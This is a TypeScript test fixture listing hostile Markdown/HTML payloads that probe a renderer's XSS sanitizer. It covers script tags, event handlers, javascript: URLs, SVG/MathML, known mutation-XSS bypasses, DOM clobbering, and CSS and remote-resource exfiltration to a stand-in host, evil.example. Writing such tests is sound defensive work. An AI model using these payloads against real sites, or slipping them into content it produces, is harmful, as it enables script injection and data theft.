/**
 * Hostile Markdown/HTML for the XSS suite. Every payload, if it ever ran, would call the canary
 * `__xssHit('<id>')` (a Playwright binding), raise a dialog, request https://evil.example/<id>
 * (a name that never resolves) or navigate away — each of which the monitor records. `__ID__` is
 * replaced by the payload id. Families follow the issue: script tags, event handlers, dangerous URL
 * schemes, SVG and MathML, <meta> refresh and <base>, CSS exfiltration, DOM clobbering,
 * mutation-XSS classics, and Markdown-specific injections (titles, alts, headings, footnotes).
 */

export const FAMILIES = ['script', 'handler', 'url', 'svg-mathml', 'meta-base-link', 'css', 'clobbering', 'mutation', 'markdown'] as const
export type Family = (typeof FAMILIES)[number]

export interface XssPayload {
  readonly id: string
  readonly family: Family
  readonly markdown: string
  /** What it tries, in a few words (shown when it fails). */
  readonly note: string
}

const HIT = "__xssHit('__ID__')"
const B64_PAGE = Buffer.from(`<script>${HIT}</script>`).toString('base64')
const SVG_B64 = Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" onload="${HIT}"><script>${HIT}</script></svg>`).toString('base64')

const RAW: readonly (readonly [Family, string, string])[] = [
  // <script> in all its spellings
  ['script', `<script>${HIT}</script>`, 'plain script tag'],
  ['script', `<SCRIPT>${HIT}</SCRIPT>`, 'upper-case script tag'],
  ['script', `<scr<script>ipt>${HIT}</scr</script>ipt>`, 'split script tag'],
  ['script', '<script src="https://evil.example/__ID__.js"></script>', 'remote script'],
  ['script', `<script type="module">import('https://evil.example/__ID__.js')</script>`, 'module script with import()'],
  ['script', `<div>\n\n<script>${HIT}</script>\n\n</div>`, 'script inside an HTML block'],
  ['script', `- item\n- <script>${HIT}</script>`, 'script inside a list'],
  ['script', `<noscript><script>${HIT}</script></noscript>`, 'script inside noscript'],
  // inline event handlers
  ['handler', `<img src=x onerror="${HIT}">`, 'img onerror'],
  ['handler', `<img src="/content/missing.png" onerror=${HIT}>`, 'img onerror on a same-origin 404'],
  ['handler', `<svg onload=${HIT}>`, 'svg onload'],
  ['handler', `<body onload=${HIT}>`, 'body onload'],
  ['handler', `<details open ontoggle="${HIT}"><summary>x</summary>y</details>`, 'details ontoggle'],
  ['handler', `<input autofocus onfocus="${HIT}">`, 'autofocus onfocus'],
  ['handler', `<video><source onerror="${HIT}"></video>`, 'video source onerror'],
  ['handler', `<audio src=x onerror="${HIT}"></audio>`, 'audio onerror'],
  ['handler', `<marquee onstart="${HIT}">x</marquee>`, 'marquee onstart'],
  ['handler', `<a href="#x" onclick="${HIT}" id="x">clique</a>`, 'onclick on a link (clicked by the monitor)'],
  ['handler', `<p onmouseover="${HIT}">survol</p>`, 'onmouseover (hovered by the monitor)'],
  ['handler', `<iframe onload="${HIT}"></iframe>`, 'iframe onload'],
  ['handler', `<object data="x" onerror="${HIT}"></object>`, 'object onerror'],
  ['handler', `<img src=x onerror=eval(atob('${Buffer.from(HIT).toString('base64')}'))>`, 'eval(atob()) in onerror'],
  ['handler', `<div onpointerenter="${HIT}" tabindex=0>x</div>`, 'onpointerenter'],
  // dangerous URL schemes
  ['url', `[x](javascript:${HIT})`, 'javascript: Markdown link'],
  ['url', `[x](JaVaScRiPt:${HIT})`, 'mixed-case javascript:'],
  ['url', `[x](javascript&colon;${HIT})`, 'entity-encoded colon'],
  ['url', `<a href="jav&#x09;ascript:${HIT}">x</a>`, 'tab entity inside the scheme'],
  ['url', `<a href="jav&#x0A;ascript:${HIT}">x</a>`, 'newline entity inside the scheme'],
  ['url', `<a href="&#14;javascript:${HIT}">x</a>`, 'control character before the scheme'],
  ['url', `<a href=" javascript:${HIT}">x</a>`, 'leading space before the scheme'],
  ['url', "[x](vbscript:msgbox('__ID__'))", 'vbscript: link'],
  ['url', `[x](data:text/html;base64,${B64_PAGE})`, 'data: HTML page link'],
  ['url', `<a href="data:text/html,<script>${HIT}</script>">x</a>`, 'data: HTML in raw HTML'],
  ['url', `![x](javascript:${HIT})`, 'javascript: image'],
  ['url', `<img src="javascript:${HIT}">`, 'javascript: img src'],
  ['url', `<javascript:${HIT}>`, 'javascript: autolink'],
  ['url', `[x][r]\n\n[r]: javascript:${HIT}`, 'javascript: reference link'],
  ['url', '[x](//evil.example/__ID__)', 'protocol-relative link'],
  ['url', '<a href="file:///etc/passwd">x</a>', 'file: link'],
  ['url', '<a href="https://evil.example/__ID__" target="_blank" ping="https://evil.example/ping/__ID__">x</a>', 'target=_blank and ping'],
  ['url', `<img src="data:image/svg+xml;base64,${SVG_B64}">`, 'scripted SVG as a data: image'],
  // remote resources: tracking pixels, even without script
  ['url', '<img src="https://evil.example/__ID__.png">', 'remote image in raw HTML (tracking pixel)'],
  ['url', '<img src="//evil.example/__ID__.png" loading="lazy">', 'protocol-relative lazy image'],
  ['url', '<img src="/content/x.png" srcset="https://evil.example/__ID__.png 2x">', 'remote srcset'],
  ['url', '<picture><source srcset="https://evil.example/__ID__.webp"><img src="/content/x.png"></picture>', 'picture source srcset'],
  ['url', '<image src="https://evil.example/__ID__.png">', 'legacy <image> alias of img'],
  ['url', '<input type="image" src="https://evil.example/__ID__.png">', 'image input'],
  ['url', '<table background="https://evil.example/__ID__.png"><tr><td>x</td></tr></table>', 'table background'],
  // SVG and MathML
  ['svg-mathml', `<svg><script>${HIT}</script></svg>`, 'script inside svg'],
  ['svg-mathml', `<svg><a xlink:href="javascript:${HIT}"><text x="0" y="20">x</text></a></svg>`, 'svg xlink:href javascript:'],
  ['svg-mathml', `<svg><animate onbegin="${HIT}" attributeName="x" dur="1s"></animate></svg>`, 'svg animate onbegin'],
  ['svg-mathml', `<svg><a><set attributeName="href" to="javascript:${HIT}"></set><text y="20">x</text></a></svg>`, 'svg set to javascript:'],
  ['svg-mathml', `<svg><foreignObject><iframe srcdoc="<script>${HIT}</script>"></iframe></foreignObject></svg>`, 'foreignObject iframe srcdoc'],
  ['svg-mathml', `<math><mi xlink:href="javascript:${HIT}">x</mi></math>`, 'MathML xlink:href'],
  ['svg-mathml', `<math><maction actiontype="statusline" xlink:href="javascript:${HIT}">x</maction></math>`, 'MathML maction'],
  ['svg-mathml', `<math><mtext><table><mglyph><style><img src=x onerror="${HIT}">`, 'MathML mglyph style (DOMPurify 2.0.17 bypass)'],
  // <meta>, <base>, <link>, frames
  ['meta-base-link', '<meta http-equiv="refresh" content="0;url=https://evil.example/__ID__">', 'meta refresh away'],
  ['meta-base-link', `<meta http-equiv="refresh" content="0;url=javascript:${HIT}">`, 'meta refresh to javascript:'],
  ['meta-base-link', '<base href="https://evil.example/__ID__/">\n\n![x](image.png)\n\n[lien](page.html)', 'base href hijacks relative URLs'],
  ['meta-base-link', '<link rel="stylesheet" href="https://evil.example/__ID__.css">', 'remote stylesheet'],
  ['meta-base-link', '<link rel="prefetch" href="https://evil.example/__ID__">', 'prefetch'],
  ['meta-base-link', `<iframe srcdoc="<script>parent.${HIT}</script>"></iframe>`, 'iframe srcdoc'],
  ['meta-base-link', '<iframe src="https://evil.example/__ID__"></iframe>', 'remote iframe'],
  ['meta-base-link', '<embed src="https://evil.example/__ID__.swf">', 'embed'],
  ['meta-base-link', `<form action="https://evil.example/__ID__"><button>envoyer</button></form>`, 'form posting away'],
  // CSS exfiltration
  ['css', '<style>@import url(https://evil.example/__ID__.css);</style>', 'style @import'],
  ['css', '<style>body{background:url(https://evil.example/__ID__)}</style>', 'style background url'],
  ['css', '<div style="background-image:url(https://evil.example/__ID__)">x</div>', 'inline style url'],
  ['css', '<style>@font-face{font-family:x;src:url(https://evil.example/__ID__.woff)}</style><span style="font-family:x">x</span>', 'font-face exfiltration'],
  ['css', '<style>a[href^="h"]{background:url(https://evil.example/__ID__)}</style><a href="https://ok.example">x</a>', 'attribute-selector exfiltration'],
  ['css', '<img src="/content/x.png" style="width:expression(alert(1))">', 'legacy expression()'],
  // DOM clobbering
  ['clobbering', '<img name="passerelles"><img id="passerelles">', 'clobber window.passerelles'],
  ['clobbering', '<img name="getElementById"><img name="querySelector">', 'clobber document methods'],
  ['clobbering', '<a id="location" href="https://evil.example/__ID__">x</a>', 'clobber location'],
  ['clobbering', '<a id="__xssHit">x</a><a id="defaultView" name="cookie">y</a>', 'clobber the canary and document props'],
  ['clobbering', '<a id="CONFIG"></a><a id="CONFIG" name="url" href="https://evil.example/__ID__">x</a>', 'HTMLCollection clobbering'],
  ['clobbering', '<form name="body"><input name="innerHTML"></form>', 'form/input clobbering'],
  // mutation XSS classics
  ['mutation', `<noscript><p title="</noscript><img src=x onerror=${HIT}>">`, 'noscript title mXSS'],
  ['mutation', `<svg></p><style><a id="</style><img src=1 onerror=${HIT}>">`, 'svg style namespace confusion'],
  ['mutation', `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;&lt;img&Tab;src=1&Tab;onerror=${HIT}&gt;">`, 'mglyph comment mXSS'],
  ['mutation', `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${HIT}>`, 'CVE-2020-26870 (MarkText)'],
  ['mutation', `<svg><style><img src=x onerror=${HIT}></style></svg>`, 'img inside svg style'],
  ['mutation', `<xmp><img src=x onerror=${HIT}></xmp>`, 'xmp raw text'],
  ['mutation', `<listing>&lt;img src=x onerror=${HIT}&gt;</listing>`, 'listing entity mutation'],
  ['mutation', `<textarea><img src=x onerror=${HIT}></textarea>`, 'textarea raw text'],
  ['mutation', `<title><img src=x onerror=${HIT}></title>`, 'title raw text'],
  ['mutation', `<!--><img src=x onerror=${HIT}>-->`, 'short comment'],
  ['mutation', `<template><img src=x onerror=${HIT}></template>`, 'template content'],
  ['mutation', `<img src=\`x\`onerror=${HIT}>`, 'backtick attribute quoting'],
  // Markdown-specific injections
  ['markdown', `[x](https://ok.example "\\" onmouseover=\\"${HIT}")`, 'link title breaking out'],
  ['markdown', `![" onerror="${HIT}](x.png)`, 'image alt breaking out'],
  ['markdown', `## <img src=x onerror=${HIT}> titre`, 'HTML inside a heading (and its id)'],
  ['markdown', `Texte[^a"><img src=x onerror=${HIT}>]\n\n[^a"><img src=x onerror=${HIT}>]: note`, 'footnote label injection'],
  ['markdown', `[x](../cas/april.md#"><img src=x onerror=${HIT}>)`, 'anchor injection in an internal link'],
  ['markdown', `| a | b |\n|---|---|\n| <img src=x onerror=${HIT}> | <a href="javascript:${HIT}">x</a> |`, 'HTML in a table cell'],
  ['markdown', '![distante](https://evil.example/__ID__.png)', 'remote Markdown image'],
  ['markdown', '```html\n<script>__xssHit(\'__ID__\')</script>\n```', 'script in a code block (must stay text)'],
  ['markdown', `\`<img src=x onerror=${HIT}>\``, 'HTML in inline code (must stay text)'],
]

export const XSS_PAYLOADS: readonly XssPayload[] = RAW.map(([family, markdown, note], i) => {
  const id = `p${String(i + 1).padStart(2, '0')}`
  return { id, family, markdown: markdown.replaceAll('__ID__', id), note }
})
